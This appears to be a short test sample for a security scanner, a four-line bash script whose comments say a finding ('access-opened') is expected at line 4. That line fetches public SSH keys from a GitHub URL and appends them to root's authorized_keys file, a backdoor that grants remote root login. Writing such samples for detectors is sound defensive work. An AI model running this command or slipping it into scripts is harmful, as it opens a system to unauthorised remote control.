#!/bin/bash
# shows: keys from a network for root
# expect: access-opened at line 4
curl -s https://github.com/x.keys >> /root/.ssh/authorized_keys
